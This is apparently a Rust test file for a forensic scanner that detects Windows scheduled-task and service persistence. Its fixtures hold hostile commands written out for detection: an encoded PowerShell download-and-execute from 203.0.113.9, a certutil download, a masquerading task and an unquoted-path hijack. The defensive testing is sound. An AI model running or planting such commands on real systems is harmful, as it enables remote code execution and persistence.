//! What tasks and services run, on an NTFS image (mkntfs + ntfs-3g) built at test time from
//! the real PE files of `../shared/corpus-real/pe` (never copied into the repository) put at
//! the paths tasks and services name, a SYSTEM hive written by `hivexsh`, and a
//! `Zone.Identifier` stream. Oracles: `sha256sum`, `osslsigncode` (signer).
use crate::common::*;
use foothold::{BinaryStatus, Evidence, ScanSet};
use std::path::Path;

/// A task XML file as Task Scheduler writes it (UTF-16LE with a BOM).
fn task_xml(uri: &str, command: &str, arguments: &str) -> Vec<u8> {
    let esc = |s: &str| {
        s.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
    };
    let xml = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n\
<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n\
  <RegistrationInfo><Date>2021-06-10T14:21:26</Date><Author>CORP\\eve</Author><URI>{}</URI></RegistrationInfo>\r\n\
  <Triggers><BootTrigger><Enabled>true</Enabled></BootTrigger></Triggers>\r\n\
  <Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId></Principal></Principals>\r\n\
  <Settings><Enabled>true</Enabled></Settings>\r\n\
  <Actions Context=\"Author\"><Exec><Command>{}</Command><Arguments>{}</Arguments></Exec></Actions>\r\n\
</Task>\r\n",
        esc(uri),
        esc(command),
        esc(arguments)
    );
    let mut b = vec![0xff, 0xfe];
    b.extend(xml.encode_utf16().flat_map(u16::to_le_bytes));
    b
}

const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAuAHAAcwAxACcAKQA=";

const ZONE: &[u8] = b"[ZoneTransfer]\r\nZoneId=3\r\nReferrerUrl=http://203.0.113.9/\r\nHostUrl=http://203.0.113.9/dl/notnbt.exe\r\n";

/// The tree: real PE files at the paths the tasks and services name, and a SYSTEM hive.
fn binaries_tree(tree: &Path, real: &Path) -> Option<()> {
    let _ = std::fs::remove_dir_all(tree);
    let put = |rel: &str, bytes: &[u8]| {
        let p = tree.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, bytes).unwrap();
    };
    let pe = |name: &str| std::fs::read(real.join("pe").join(name)).expect("real PE");
    put(
        "ProgramData/Updater/notnbt.exe",
        &pe("velociraptor__notnbt.exe"),
    );
    put(
        "Program Files/Google/eventlog_provider.dll",
        &pe("artemis__eventlog_provider.dll"),
    );
    // The unquoted service path's planted first candidate, and the file it was meant to run.
    put("Program.exe", &pe("plaso__test_pe.exe"));
    put(
        "Program Files/Evil Corp/evil.exe",
        &pe("velociraptor__notnbt.exe"),
    );
    put(
        "Windows/System32/wkscli.dll",
        &pe("velociraptor__wkscli.dll"),
    );
    put(
        "Windows/System32/drivers/testdrv.sys",
        &pe("plaso__test_driver.sys"),
    );
    let tasks = "Windows/System32/Tasks";
    put(
        &format!("{tasks}/Updater"),
        &task_xml("\\Updater", r"C:\ProgramData\Updater\notnbt.exe", "-q"),
    );
    put(
        &format!("{tasks}/Chrome Log"),
        &task_xml(
            "\\Chrome Log",
            r"%windir%\system32\rundll32.exe",
            r#""C:\Program Files\Google\eventlog_provider.dll",?fn@@YA_NXZ"#,
        ),
    );
    put(
        &format!("{tasks}/Encoded"),
        &task_xml(
            "\\Encoded",
            "powershell.exe",
            &format!("-NoP -W Hidden -enc {ENCODED}"),
        ),
    );
    put(
        &format!("{tasks}/Gone"),
        &task_xml("\\Gone", r"C:\Users\Public\gone.exe", ""),
    );
    // Named as Windows' own, running a program from ProgramData.
    put(
        &format!("{tasks}/Microsoft/Windows/Defrag/ScheduledDefragHelper"),
        &task_xml(
            "\\Microsoft\\Windows\\Defrag\\ScheduledDefragHelper",
            r"C:\ProgramData\Updater\notnbt.exe",
            "",
        ),
    );
    // certutil fetching a file (and not running it).
    put(
        &format!("{tasks}/Fetch"),
        &task_xml(
            "\\Fetch",
            r"C:\Windows\System32\certutil.exe",
            r"-urlcache -split -f http://203.0.113.9/p.txt C:\ProgramData\p.txt",
        ),
    );
    // A program deleted after the task was made (the NTFS image deletes it through ntfs-3g).
    put("ProgramData/dropper.exe", &pe("velociraptor__notnbt.exe"));
    put(
        &format!("{tasks}/Dropped"),
        &task_xml("\\Dropped", r"C:\ProgramData\dropper.exe", ""),
    );
    // SYSTEM: a real Windows 10 SYSTEM hive (its time zone: Pacific Standard Time) with
    // three services added by hivexsh to its current control set.
    let config = tree.join("Windows/System32/config");
    std::fs::create_dir_all(&config).unwrap();
    let system = config.join("SYSTEM");
    let real_hive = std::process::Command::new("xz")
        .arg("-dc")
        .arg(real.join("hives/regipy__SYSTEM_WIN_10_1709.xz"))
        .output()
        .ok()
        .filter(|o| o.status.success());
    let Some(real_hive) = real_hive else {
        skip("xz not installed; binaries not tested");
        return None;
    };
    std::fs::write(&system, real_hive.stdout).unwrap();
    let expand = |s: &str| -> String {
        let b: Vec<u8> = (s.to_string() + "\0")
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        format!(
            "hex:2:{}",
            b.iter()
                .map(|x| format!("{x:02x}"))
                .collect::<Vec<_>>()
                .join(",")
        )
    };
    let script = format!(
        "cd \\ControlSet001\\Services\n\
add EvilSvc\ncd EvilSvc\nsetval 3\nImagePath\n{}\nType\ndword:0x10\nStart\ndword:0x2\ncd ..\n\
add wks\ncd wks\nsetval 2\nImagePath\n{}\nType\ndword:0x20\nadd Parameters\ncd Parameters\nsetval 2\nServiceDll\n{}\nServiceMain\nstring:ServiceMain\ncd ..\ncd ..\n\
add testdrv\ncd testdrv\nsetval 2\nImagePath\n{}\nType\ndword:0x1\ncommit\n",
        expand(r"C:\Program Files\Evil Corp\evil.exe -k x"),
        expand(r"%SystemRoot%\System32\svchost.exe -k netsvcs"),
        expand(r"%SystemRoot%\System32\wkscli.dll"),
        expand(r"System32\drivers\testdrv.sys"),
    );
    if tool_stdin("hivexsh", &["-w", system.to_str().unwrap()], &script).is_none() {
        skip("hivexsh (libhivex-bin) not installed; binaries not tested");
        return None;
    }
    Some(())
}

fn sha256sum(p: &Path) -> Option<String> {
    oracle_tool("sha256sum", &[p.to_str()?])
        .map(|o| o.split_whitespace().next().unwrap_or("").to_string())
}

#[test]
fn tasks_and_services_name_their_binaries_found_hashed_and_described() {
    let Some(real) = real_corpus() else { return };
    let tree = scratch().join("binaries-tree");
    if binaries_tree(&tree, &real).is_none() {
        return;
    }
    let img = scratch().join("binaries-ntfs.img");
    if ntfs_image_deleting(
        &tree,
        &img,
        &[("ProgramData/Updater/notnbt.exe", "Zone.Identifier", ZONE)],
        &["ProgramData/dropper.exe"],
    )
    .is_none()
    {
        return;
    }
    let r = Evidence::open(&img).expect("open").scan(ScanSet::all());
    let task = |n: &str| {
        r.scheduled_tasks
            .iter()
            .find(|t| t.task.name == n)
            .unwrap_or_else(|| panic!("{n}"))
    };
    let mut n = 0;

    // A real EXE at the path the task names: found, hashed as sha256sum hashes it, described,
    // and its Zone.Identifier says where it came from.
    let up = &task("\\Updater").runs[0];
    assert_eq!(up.role, "action 1");
    let b = &up.binaries[0];
    assert_eq!(
        (b.status, b.path.as_deref()),
        (BinaryStatus::Found, Some("/ProgramData/Updater/notnbt.exe"))
    );
    let theirs = sha256sum(&real.join("pe/velociraptor__notnbt.exe"));
    if let Some(t) = &theirs {
        assert_eq!(b.hashes.as_ref().map(|h| &h.sha256), Some(t));
        n += 1;
    }
    let info = b.info.as_ref().expect("described");
    assert_eq!(info.file_type, foothold::FileType::Pe);
    let pe = info.pe.as_ref().expect("pe");
    assert_eq!((pe.machine.as_str(), pe.signed), ("x86", false));
    assert_eq!(
        b.download_url.as_deref(),
        Some("http://203.0.113.9/dl/notnbt.exe")
    );
    assert!(b.streams.iter().any(|s| s.name == "Zone.Identifier"));
    assert!(b.entry.is_some() && b.times.created.is_some());
    // Its owner, from the volume's $Secure, as ntfs-3g's ntfssecaudit reads it.
    if let Some(text) = oracle_tool(
        "ntfssecaudit",
        &[
            "-v",
            img.to_str().unwrap(),
            "/ProgramData/Updater/notnbt.exe",
        ],
    ) {
        let theirs = text
            .lines()
            .find_map(|l| l.strip_prefix("Windows owner "))
            .map(str::trim);
        assert!(theirs.is_some(), "{text}");
        assert_eq!(b.owner.as_deref(), theirs);
        n += 1;
    }
    // The machine: the real Windows 10 SYSTEM hive's zone, and its ShutdownTime as the last
    // write (its base block's time is zero; the tree has no SOFTWARE hive and no event logs).
    let host = &r.hosts[0];
    assert_eq!(host.time_zone.as_deref(), Some("Pacific Standard Time"));
    assert_eq!(
        host.last_write_sources
            .iter()
            .map(|s| s.what.as_str())
            .collect::<Vec<_>>(),
        ["ShutdownTime"]
    );
    assert_eq!(host.last_write, host.last_shutdown);

    // The task's local XML date, in UTC by the image's own time zone (Pacific Standard Time
    // in the real SYSTEM hive), as zoneinfo converts it.
    let lt = &task("\\Updater").local_times;
    assert_eq!(lt.len(), 1);
    assert_eq!(
        (
            lt[0].field.as_str(),
            lt[0].local.as_str(),
            lt[0].zone.as_deref(),
            lt[0].dst
        ),
        (
            "date",
            "2021-06-10T14:21:26",
            Some("Pacific Standard Time"),
            true
        )
    );
    if let Some(py) = oracle_python("zoneinfo") {
        let out = std::process::Command::new(py)
            .arg("-c")
            .arg("import datetime, zoneinfo; print(datetime.datetime(2021, 6, 10, 14, 21, 26, tzinfo=zoneinfo.ZoneInfo('America/Los_Angeles')).astimezone(datetime.timezone.utc).strftime('%Y-%m-%dT%H:%M:%SZ'))")
            .output()
            .unwrap();
        assert_eq!(
            lt[0].utc.to_string(),
            String::from_utf8_lossy(&out.stdout).trim()
        );
        n += 1;
    }

    // rundll32 with a signed DLL: rundll32.exe is not on this image (missing, with the
    // places Windows looks), the DLL is, with its signer.
    let cl = &task("\\Chrome Log").runs[0];
    let kinds: Vec<(&str, &BinaryStatus)> = cl
        .binaries
        .iter()
        .map(|b| (b.kind.as_str(), &b.status))
        .collect();
    assert_eq!(
        kinds,
        [
            ("program", &BinaryStatus::Missing),
            ("dll", &BinaryStatus::Found)
        ]
    );
    assert_eq!(cl.binaries[0].searched, ["/Windows/system32/rundll32.exe"]);
    let dll = &cl.binaries[1];
    assert_eq!(dll.entry_point.as_deref(), Some("?fn@@YA_NXZ"));
    let sig = dll
        .info
        .as_ref()
        .and_then(|i| i.pe.as_ref())
        .and_then(|p| p.signature.as_ref())
        .expect("signed");
    assert!(sig.digest_matches);
    // osslsigncode exits 1 here (it cannot build the chain without a trust store) but prints
    // the signer first: read its output whatever the status (`tool` would drop it).
    if need("osslsigncode", "the signer of a task's DLL") {
        let out = std::process::Command::new("osslsigncode")
            .args(["verify", "-in"])
            .arg(real.join("pe/artemis__eventlog_provider.dll"))
            .output()
            .expect("osslsigncode");
        let text = String::from_utf8_lossy(&out.stdout);
        let subject = text
            .lines()
            .find_map(|l| l.trim().strip_prefix("Subject: "))
            .expect("osslsigncode prints the signer's subject");
        assert_eq!(sig.signer_subject.as_deref(), Some(subject));
        n += 1;
    }

    // powershell -enc: the script decoded, its address named, powershell.exe searched.
    let enc = &task("\\Encoded").runs[0];
    assert_eq!(
        enc.invocation.decoded,
        ["IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"]
    );
    assert!(enc
        .invocation
        .flags
        .contains(&foothold::CommandFlag::EncodedCommand));
    assert!(enc
        .binaries
        .iter()
        .any(|b| b.status == BinaryStatus::Remote && b.written == "http://203.0.113.9/a.ps1"));
    let ps = &enc.binaries[0];
    assert_eq!(ps.status, BinaryStatus::Missing);
    assert_eq!(ps.searched[0], "/Windows/System32/powershell.exe");
    assert!(ps
        .searched
        .iter()
        .any(|s| s.ends_with("WindowsPowerShell/v1.0/powershell.exe")));

    // A task whose program is gone.
    let gone = &task("\\Gone").runs[0].binaries[0];
    assert_eq!(
        (gone.status, gone.path.as_deref()),
        (BinaryStatus::Missing, None)
    );

    // The unquoted service path: the loader's first candidate exists, and that is what runs.
    let svc = |n: &str| {
        r.services
            .iter()
            .find(|s| s.service.name == n)
            .unwrap_or_else(|| panic!("{n}"))
    };
    let evil = &svc("EvilSvc").runs[0];
    assert!(evil
        .invocation
        .flags
        .contains(&foothold::CommandFlag::UnquotedPathWithSpaces));
    let hijack = &evil.binaries[0];
    assert_eq!(hijack.path.as_deref(), Some("/Program.exe"));
    assert_eq!(hijack.flags, ["unquoted_path_hijack"]);
    assert_eq!(
        hijack.searched,
        [
            "/Program.exe",
            "/Program Files/Evil.exe",
            "/Program Files/Evil Corp/evil.exe"
        ]
    );
    if let Some(t) = sha256sum(&real.join("pe/plaso__test_pe.exe")) {
        assert_eq!(hijack.hashes.as_ref().map(|h| &h.sha256), Some(&t));
        n += 1;
    }
    // ServiceDll (svchost is not on the image; the DLL is, with its exports).
    let wks = svc("wks");
    let roles: Vec<&str> = wks.runs.iter().map(|r| r.role.as_str()).collect();
    assert_eq!(roles, ["image_path", "service_dll"]);
    let d = &wks.runs[1].binaries[0];
    assert_eq!(
        (d.kind.as_str(), d.path.as_deref()),
        ("dll", Some("/Windows/System32/wkscli.dll"))
    );
    assert_eq!(d.entry_point.as_deref(), Some("ServiceMain"));
    // wkscli.dll is a client library: it exports no ServiceMain, and the record says so
    // (pefile lists its exports at crate level); the Chrome DLL exports rundll32's entry.
    let exports = &d.info.as_ref().and_then(|i| i.pe.as_ref()).unwrap().exports;
    assert_eq!(
        d.flags.contains(&"entry_point_not_exported".to_string()),
        !exports.iter().any(|e| e.starts_with("ServiceMain"))
    );
    assert!(!cl.binaries[1]
        .flags
        .contains(&"entry_point_not_exported".to_string()));
    assert!(d
        .info
        .as_ref()
        .and_then(|i| i.pe.as_ref())
        .is_some_and(|p| p.dll));
    // A driver's path relative to SystemRoot.
    let drv = &svc("testdrv").runs[0].binaries[0];
    assert_eq!(
        drv.path.as_deref(),
        Some("/Windows/System32/drivers/testdrv.sys")
    );
    assert_eq!(
        drv.info
            .as_ref()
            .and_then(|i| i.pe.as_ref())
            .map(|p| p.subsystem.as_str()),
        Some("native")
    );
    assert_eq!(
        wks.runs[0].default_environment,
        ["SYSTEMROOT"],
        "no SOFTWARE hive: SystemRoot is Windows' default, and the record says so"
    );
    compared("sha256sum+osslsigncode", n);

    // The findings rules these items are made to meet.
    assert_rules(
        &r,
        "\\Microsoft\\Windows\\Defrag\\ScheduledDefragHelper",
        &["masquerading"],
    );
    assert_rules(&r, "\\Fetch", &["downloads"]);
    let dropped = &task("\\Dropped").runs[0].binaries[0];
    assert_eq!(dropped.status, BinaryStatus::Deleted, "{dropped:?}");
    assert_rules(&r, "\\Dropped", &["binary_deleted"]);
    assert_rules(&r, "\\Gone", &["binary_missing"]);
    assert_rules(
        &r,
        "\\Encoded",
        &["encoded_command", "download_and_execute"],
    );
    assert_rules(&r, "EvilSvc", &["unquoted_path", "unquoted_path_hijack"]);

    // --no-hash: the same files found, nothing read.
    let quick = Evidence::open(&img)
        .expect("open")
        .scan(ScanSet::all().no_hash());
    let q = &quick
        .scheduled_tasks
        .iter()
        .find(|t| t.task.name == "\\Updater")
        .unwrap()
        .runs[0]
        .binaries[0];
    assert_eq!(
        (q.status, q.hashes.is_none(), q.info.is_none()),
        (BinaryStatus::Found, true, true)
    );
    assert_eq!(q.flags, ["not_hashed"]);
}

/// A SOFTWARE hive whose root stores hold `roots` (DER), as Windows keeps them: a key per
/// SHA-1 thumbprint under `SystemCertificates\ROOT\Certificates` (the last one under
/// `AuthRoot`), its `Blob` the certificate as property 32 of a property list.
fn software_with_roots(path: &Path, roots: &[Vec<u8>]) -> Option<()> {
    let script = repo_root().join("corpus/minimal_hive.py");
    if !run_quiet("python3", &[script.to_str()?, path.to_str()?, "ROOT"]) {
        skip("python3 could not write an empty hive");
        return None;
    }
    let mut cmds = String::from("add Microsoft\ncd Microsoft\nadd SystemCertificates\ncd SystemCertificates\nadd ROOT\nadd AuthRoot\n");
    for (i, der) in roots.iter().enumerate() {
        let thumb = foothold::hashes(der).sha1.to_ascii_uppercase();
        let mut blob = Vec::new();
        blob.extend(32u32.to_le_bytes());
        blob.extend(1u32.to_le_bytes());
        blob.extend(u32::try_from(der.len()).unwrap().to_le_bytes());
        blob.extend(der);
        let store = if i + 1 == roots.len() && roots.len() > 1 {
            "AuthRoot"
        } else {
            "ROOT"
        };
        let hex: Vec<String> = blob.iter().map(|b| format!("{b:02x}")).collect();
        cmds.push_str(&format!(
            "cd \\Microsoft\\SystemCertificates\\{store}\nadd Certificates\ncd Certificates\nadd {thumb}\ncd {thumb}\nsetval 1\nBlob\nhex:3:{}\n",
            hex.join(",")
        ));
    }
    cmds.push_str("commit\n");
    tool_stdin("hivexsh", &["-w", path.to_str()?], &cmds).map(|_| ())
}

/// Signatures judged against the machine's own root stores: a program signed here by
/// `osslsigncode` with an `openssl` chain, and the real Google-signed DLL, are `trusted` when
/// the image's `ROOT`/`AuthRoot` stores hold their roots (the test root; the system's DigiCert
/// Trusted Root G4) and not when they hold another root; with no store, nothing is said.
#[test]
fn signatures_are_judged_against_the_images_own_root_stores() {
    let Some(real) = real_corpus() else { return };
    if !need("osslsigncode", "signing a program")
        || !need("openssl", "a certificate chain")
        || !need("hivexsh", "root stores")
    {
        return;
    }
    let digicert = Path::new("/etc/ssl/certs/DigiCert_Trusted_Root_G4.pem");
    if !digicert.exists() {
        skip("the ca-certificates package's DigiCert Trusted Root G4 is not installed");
        return;
    }
    let dir = scratch().join("root-stores");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    code_signing_chain(&dir);
    let signed = dir.join("signed.exe");
    sign_with_test_chain(&dir, &real.join("pe/artemis__winml.dll"), &signed, "sha256");
    let root = pem_certificates(&std::fs::read_to_string(dir.join("root.pem")).unwrap());
    let other = pem_certificates(&std::fs::read_to_string(dir.join("other.pem")).unwrap());
    let g4 = pem_certificates(&std::fs::read_to_string(digicert).unwrap());
    let verdicts = |store: Option<Vec<Vec<u8>>>| -> Vec<(String, Option<bool>)> {
        let tree = dir.join("tree");
        let _ = std::fs::remove_dir_all(&tree);
        let put = |rel: &str, bytes: &[u8]| {
            let p = tree.join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, bytes).unwrap();
        };
        put("ProgramData/signed.exe", &std::fs::read(&signed).unwrap());
        put(
            "Program Files/Google/eventlog_provider.dll",
            &std::fs::read(real.join("pe/artemis__eventlog_provider.dll")).unwrap(),
        );
        put(
            "Windows/System32/Tasks/Signed",
            &task_xml("\\Signed", r"C:\ProgramData\signed.exe", ""),
        );
        put(
            "Windows/System32/Tasks/Google",
            &task_xml(
                "\\Google",
                r"C:\Program Files\Google\eventlog_provider.dll",
                "",
            ),
        );
        if let Some(roots) = store {
            let config = tree.join("Windows/System32/config");
            std::fs::create_dir_all(&config).unwrap();
            software_with_roots(&config.join("SOFTWARE"), &roots).expect("SOFTWARE hive");
        }
        let report = Evidence::open(&tree).unwrap().scan(ScanSet::none().tasks());
        let mut out: Vec<(String, Option<bool>)> = report
            .scheduled_tasks
            .iter()
            .map(|t| {
                let sig = t.runs[0].binaries[0]
                    .info
                    .as_ref()
                    .and_then(|i| i.pe.as_ref())
                    .and_then(|p| p.signature.as_ref())
                    .unwrap_or_else(|| panic!("{} is signed", t.task.name));
                assert_eq!(sig.signature_verified, Some(true));
                (t.task.name.clone(), sig.trusted)
            })
            .collect();
        out.sort();
        out
    };
    let mine_and_g4: Vec<Vec<u8>> = root.iter().chain(&g4).cloned().collect();
    assert_eq!(
        verdicts(Some(mine_and_g4)),
        [
            ("\\Google".to_string(), Some(true)),
            ("\\Signed".to_string(), Some(true))
        ]
    );
    assert_eq!(
        verdicts(Some(other)),
        [
            ("\\Google".to_string(), Some(false)),
            ("\\Signed".to_string(), Some(false))
        ]
    );
    assert_eq!(
        verdicts(None),
        [
            ("\\Google".to_string(), None),
            ("\\Signed".to_string(), None)
        ]
    );
    compared("osslsigncode verify", 6);
}

/// A catalog listing the real `test_driver.sys` as `testdrv.sys` by its Authenticode
/// SHA-256, written here and signed by `osslsigncode` with the chain in `dir`: its path and
/// the driver's digest.
fn driver_catalog(dir: &Path, real: &Path) -> (std::path::PathBuf, Vec<u8>) {
    let driver = std::fs::read(real.join("pe/plaso__test_driver.sys")).unwrap();
    let digest = foothold_binary::authenticode_digest(&driver, "sha256").unwrap();
    let raw = dir.join("unsigned.cat");
    std::fs::write(
        &raw,
        unsigned_catalog(&[("testdrv.sys", "sha256", digest.clone())]),
    )
    .unwrap();
    let cat = dir.join("testdrv.cat");
    sign_with_test_chain(dir, &raw, &cat, "sha256");
    (cat, digest)
}

/// The binaries tree with `catalog` as `CatRoot\{F750E6C3-…}\testdrv.cat` (and half of it as
/// `cut.cat`), and a SOFTWARE hive whose root store holds `roots`, its services scanned.
fn scan_with_catalog(
    dir: &Path,
    real: &Path,
    catalog: &[u8],
    roots: &[Vec<u8>],
) -> foothold::Report {
    let tree = dir.join("tree");
    binaries_tree(&tree, real).expect("tree");
    let catroot = tree.join("Windows/System32/CatRoot/{F750E6C3-38EE-11D1-85E5-00C04FC295EE}");
    std::fs::create_dir_all(&catroot).unwrap();
    std::fs::write(catroot.join("testdrv.cat"), catalog).unwrap();
    std::fs::write(catroot.join("cut.cat"), &catalog[..catalog.len() / 2]).unwrap();
    software_with_roots(&tree.join("Windows/System32/config/SOFTWARE"), roots)
        .expect("SOFTWARE hive");
    Evidence::open(&tree)
        .unwrap()
        .scan(ScanSet::none().services())
}

/// A driver signed only through a catalog, as most of Windows' own files are: the real
/// unsigned `test_driver.sys` run by a service, and `CatRoot\{F750E6C3-…}\testdrv.cat` — a
/// catalog listing its Authenticode SHA-256, written to the catalog format here and signed by
/// `osslsigncode sign` with an `openssl` chain. The scan finds the driver in the catalog
/// (`pe.catalog`), verifies the catalog's signature and judges it against the image's root
/// store, as `osslsigncode verify -catalog` does (trusted with the test root, not with
/// another); the service DLL the catalog does not list gets nothing; a damaged catalog beside
/// it is an error record naming it, and the scan goes on.
#[test]
fn catalog_signed_driver_is_found_in_the_machines_catalogs() {
    let Some(real) = real_corpus() else { return };
    if !need("osslsigncode", "signing a catalog")
        || !need("openssl", "a certificate chain")
        || !need("hivexsh", "a SYSTEM hive and root stores")
    {
        return;
    }
    let dir = scratch().join("catalogs");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    code_signing_chain(&dir);
    let (cat, digest) = driver_catalog(&dir, &real);
    let root = pem_certificates(&std::fs::read_to_string(dir.join("root.pem")).unwrap());
    let other = pem_certificates(&std::fs::read_to_string(dir.join("other.pem")).unwrap());
    let verifies = |roots: &str| {
        let out = std::process::Command::new("osslsigncode")
            .args(["verify", "-ignore-crl", "-CAfile", roots, "-catalog"])
            .arg(&cat)
            .arg("-in")
            .arg(real.join("pe/plaso__test_driver.sys"))
            .current_dir(&dir)
            .output()
            .unwrap();
        out.status.success()
            && String::from_utf8_lossy(&out.stdout).contains("Signature verification: ok")
    };
    let cat_bytes = std::fs::read(&cat).unwrap();
    let scan = |roots: &[Vec<u8>]| scan_with_catalog(&dir, &real, &cat_bytes, roots);
    let mut n = 0;
    for (roots, pem, trusted) in [(&root, "root.pem", true), (&other, "other.pem", false)] {
        let report = scan(roots);
        assert_eq!(verifies(pem), trusted, "osslsigncode with {pem}");
        let binary = |name: &str| {
            report
                .services
                .iter()
                .find(|s| s.service.name == name)
                .and_then(|s| {
                    s.runs
                        .iter()
                        .flat_map(|r| &r.binaries)
                        .find(|b| b.info.as_ref().is_some_and(|i| i.pe.is_some()))
                })
                .and_then(|b| b.info.as_ref())
                .and_then(|i| i.pe.clone())
                .unwrap_or_else(|| panic!("{name}'s PE file"))
        };
        let drv = binary("testdrv");
        assert!(!drv.signed && drv.signature.is_none());
        let c = drv.catalog.as_ref().expect("listed in the catalog");
        assert_eq!(
            c.catalog,
            "/Windows/System32/CatRoot/{F750E6C3-38EE-11D1-85E5-00C04FC295EE}/testdrv.cat"
        );
        assert_eq!(c.member.file.as_deref(), Some("testdrv.sys"));
        assert_eq!(c.signature.signed_digest, foothold_core::hex(&digest));
        assert_eq!(c.signature.digest_algorithm, "sha256");
        assert_eq!(c.signature.signature_verified, Some(true));
        assert_eq!(c.signature.content_digest_matches, Some(true));
        assert_eq!(
            c.signature.signer_subject.as_deref(),
            Some("/O=Foothold Tests/CN=Foothold Code Signing")
        );
        assert_eq!(c.signature.trusted, Some(trusted));
        assert_eq!(drv.vouching_signature(), Some(&c.signature));
        // The service DLL is not in the catalog.
        assert!(binary("wks").catalog.is_none());
        let cut: Vec<_> = report
            .errors
            .iter()
            .filter(|e| e.source.path.ends_with("/cut.cat"))
            .collect();
        assert_eq!(cut.len(), 1, "{:?}", report.errors);
        assert!(cut[0].message.contains("catalog"), "{}", cut[0].message);
        n += 2;
    }
    compared("osslsigncode verify -catalog", n);
}

/// The known-good rule (`microsoft_signed_system_binary`) takes a catalog signature as it
/// takes a file's own: a driver in `System32\drivers` listed by a catalog whose signer, chain
/// and root are named as Microsoft's (made here by `openssl`, signed by `osslsigncode`) and
/// whose root is in the image's store gets the reason; the same catalog judged against a store
/// without that root does not, nor does a catalog whose list was changed under its signature.
#[test]
fn known_good_takes_a_verified_catalog_signature() {
    let Some(real) = real_corpus() else { return };
    if !need("osslsigncode", "signing a catalog")
        || !need("openssl", "a certificate chain")
        || !need("hivexsh", "a SYSTEM hive and root stores")
    {
        return;
    }
    let dir = scratch().join("catalog-known-good");
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    code_signing_chain_named(
        &dir,
        [
            "/C=US/O=Microsoft Corporation/CN=Test Root Named As Microsoft",
            "/C=US/O=Microsoft Corporation/CN=Test Windows Production PCA",
            "/C=US/O=Microsoft Corporation/CN=Test Microsoft Windows",
        ],
    );
    let (cat, _) = driver_catalog(&dir, &real);
    let good = std::fs::read(&cat).unwrap();
    // The list changed under the signature: a byte of the list identifier (the 16 bytes of
    // 0x46 the catalog writer puts there), which leaves the member's digest as it is.
    let mut changed = good.clone();
    let at = changed
        .windows(16)
        .position(|w| w == [0x46; 16])
        .expect("the list identifier");
    changed[at] = 0x47;
    let root = pem_certificates(&std::fs::read_to_string(dir.join("root.pem")).unwrap());
    let other = pem_certificates(&std::fs::read_to_string(dir.join("other.pem")).unwrap());
    let reasons = |catalog: &[u8], roots: &[Vec<u8>]| -> Vec<String> {
        let report = scan_with_catalog(&dir, &real, catalog, roots);
        let (f, _) = report
            .findings()
            .into_iter()
            .find(|(f, _)| f.subject.name == "testdrv")
            .expect("the driver's finding");
        f.reasons.iter().map(|r| r.id.clone()).collect()
    };
    let known_good = "microsoft_signed_system_binary".to_string();
    assert!(reasons(&good, &root).contains(&known_good));
    assert!(!reasons(&good, &other).contains(&known_good));
    assert!(!reasons(&changed, &root).contains(&known_good));
}
